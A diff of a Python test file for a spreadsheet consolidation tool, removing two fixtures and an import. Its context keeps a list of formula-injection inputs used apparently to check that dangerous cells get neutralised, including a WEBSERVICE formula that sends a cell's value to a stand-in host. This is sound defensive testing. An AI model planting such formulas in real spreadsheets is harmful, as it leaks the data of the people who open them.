@@ -12,19 +12,9 @@ import openpyxl
 import pytest
 
 from macros.schema import ITEMS
-from consolidate_kit import Camp, copy_camp, good_row, issue
+from consolidate_kit import good_row
 
 LIVE = ['=WEBSERVICE("http://example.invalid/?"&A1)', "+1+1", "-2-2", "@SUM(A1:A3)"]
-
-
-@pytest.fixture(scope="module")
-def issued(tmp_path_factory):
-    return issue(tmp_path_factory.mktemp("issued"))
-
-
-@pytest.fixture
-def camp(issued, tmp_path) -> Camp:
-    return copy_camp(issued, tmp_path / "campaign")
 
 
 def _quoted_cells(path: Path, sheet: str) -> dict[str, bool]:
